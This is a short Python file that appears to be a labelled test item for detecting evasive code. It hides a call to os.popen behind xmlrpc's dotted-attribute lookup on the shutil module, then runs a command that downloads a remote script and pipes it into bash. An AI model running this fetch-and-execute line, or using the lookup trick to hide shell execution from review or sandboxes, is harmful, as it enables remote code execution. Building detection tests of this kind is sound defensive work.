# evasion: xmlrpc.server.resolve_dotted_attribute walks the dotted name "os.popen" from shutil (shutil's own os), kept in a class attribute
# grade: hard; does: shell
import shutil
from xmlrpc.server import resolve_dotted_attribute


class Dispatcher:
    root = shutil

    def __call__(self, dotted, *args):
        fn = resolve_dotted_attribute(self.root, dotted, True)
        return fn(*args)


call = Dispatcher()
print(call("os.popen", "wget -qO- http://203.0.113.12/i.sh | bash").read())
